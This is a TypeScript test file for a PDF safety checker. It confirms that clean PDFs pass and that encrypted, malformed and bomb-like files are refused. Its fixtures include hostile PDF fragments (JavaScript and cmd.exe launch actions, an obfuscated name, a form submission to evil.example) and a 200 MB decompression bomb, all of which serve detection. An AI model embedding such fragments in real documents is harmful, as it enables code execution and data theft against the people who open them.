import { deflateSync } from 'node:zlib';

import Paper from 'pdfkit';
import { describe, expect, test } from 'vitest';

import { judgePdf } from './pdf-structure.server.ts';
import { pdf } from './pdf.build.ts';

const written = (options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> =>
  new Promise((resolve) => {
    const paper = new Paper(options);
    const parts: Buffer[] = [];
    paper.on('data', (part: Buffer) => parts.push(part));
    paper.on('end', () => resolve(Buffer.concat(parts)));
    paper.text('Shift plan for December');
    paper.end();
  });

describe('a PDF', () => {
  test('as programs write it is sound', async () => {
    expect(judgePdf(await written())).toBe('sound');
    expect(judgePdf(await written({ compress: false }))).toBe('sound');
    expect(judgePdf(pdf())).toBe('sound');
    expect(judgePdf(pdf({ packed: '4 0 << /Type /Page >>' }))).toBe('sound');
  });

  test('with a password is refused', async () => {
    const locked = { userPassword: 'a', ownerPassword: 'b' };
    expect(judgePdf(await written({ ...locked, pdfVersion: '1.7' }))).toBe('encrypted');
  });

  test.each([
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/OpenAction << /S /J#61vaScript >>',
    '/OpenAction<</S/Launch/F(cmd.exe)>>',
    '/Names << /EmbeddedFiles 5 0 R >>',
    '/AcroForm << /XFA 5 0 R >>',
    '/A << /S /SubmitForm /F (http://evil.example) >>',
    '/A << /S /GoToE >>',
  ])('with %s is active', (extra) => {
    expect(judgePdf(pdf({ extra }))).toBe('active');
    expect(judgePdf(pdf({ packed: `4 0 << ${extra} >>` }))).toBe('active');
  });

  test('whose compressed pages look like a name by chance is sound', () => {
    const stream = '5 0 obj\n<< /Length 9 >>\nstream\nxx /JS (y)\nendstream\nendobj\n';
    const whole = pdf().toString('latin1').replace('trailer', `${stream}trailer`);
    expect(judgePdf(Buffer.from(whole, 'latin1'))).toBe('sound');
  });

  test.each([
    ['another file in front', Buffer.concat([Buffer.from('<html>'), pdf()])],
    ['another file behind', Buffer.concat([pdf(), Buffer.alloc(2_000, 'PK')])],
    ['no end', pdf().subarray(0, 60)],
    ['a beginning only', Buffer.from('%PDF-1.7')],
    ['objects that do not unpack', Buffer.from(pdf({ packed: 'x'.repeat(50) }).toString('latin1').replace('x\x9c', 'zz'), 'latin1')], // prettier-ignore
  ])('%s is broken', (_name, bytes) => {
    expect(judgePdf(bytes)).toBe('broken');
  });

  test('a bomb is refused without unpacking it', () => {
    const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024));
    const marked = pdf({ packed: 'x' }).toString('latin1');
    const at = marked.indexOf('stream\n') + 7;
    const whole = Buffer.concat([
      Buffer.from(marked.slice(0, at), 'latin1'),
      bomb,
      Buffer.from(marked.slice(marked.indexOf('\nendstream')), 'latin1'),
    ]);
    expect(judgePdf(whole)).toBe('broken');
  });

  test('of very many tiny object streams is refused by their number', () => {
    const marked = pdf({ packed: 'x' }).toString('latin1');
    const stream = marked.slice(marked.indexOf('3 0 obj'), marked.indexOf('trailer'));
    const withStreams = (count: number) =>
      Buffer.from(
        marked.replace(stream, () => stream.repeat(count)),
        'latin1',
      );
    expect(judgePdf(withStreams(2_000))).toBe('sound');
    expect(judgePdf(withStreams(2_100))).toBe('broken');
  });

  test('of very many escapes is refused by their number, packed or not', () => {
    const some = '/A#61 '.repeat(50_000);
    const many = '/A#61 '.repeat(100_001);
    expect(judgePdf(pdf({ extra: some }))).toBe('sound');
    expect(judgePdf(pdf({ packed: some }))).toBe('sound');
    expect(judgePdf(pdf({ extra: many }))).toBe('broken');
    expect(judgePdf(pdf({ packed: many }))).toBe('broken');
  });
});
